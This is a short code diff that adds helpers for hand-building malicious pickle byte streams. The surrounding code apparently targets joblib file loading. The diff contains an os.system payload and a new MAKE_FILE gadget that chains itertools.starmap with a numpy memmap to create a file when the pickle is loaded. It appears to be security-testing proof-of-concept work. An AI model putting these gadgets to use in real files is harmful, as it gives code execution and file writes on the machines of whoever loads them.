@@ -15,6 +15,21 @@ def PUT(i): return b'q'+bytes([i])
 def GET(i): return b'h'+bytes([i])
 # os.system("echo pwned"): what joblib runs in every file here.
 PAYLOAD = G('os','system')+U('echo pwned')+b'\x85R'
+# numpy.dtype('u1', False, True)
+U1 = G('numpy','dtype')+U('u1')+b'\x89\x88\x87R'
+
+def MAKE_FILE(memmap):
+    """list(itertools.starmap(memmap, [("pwned.dat", "uint8", "w+", 0, (1,))])): creates a file."""
+    return (G('builtins','list')+G('itertools','starmap')+memmap
+            +b']('+U('pwned.dat')+U('uint8')+U('w+')+K(0)+K(1)+b'\x85ta'
+            +b'\x86R\x85R')
+
+def state(items, memo=1):
+    """A dict state (memo `memo`) with `items` (key, value-bytes) in one SETITEMS."""
+    out = b'}'+PUT(memo)+b'('
+    for key, value in items:
+        out += U(key)+value
+    return out+b'u'
 def dtype(code):  # numpy.dtype(code, False, True)
     return G('numpy','dtype')+U(code)+b'\x89\x88\x87R'
 
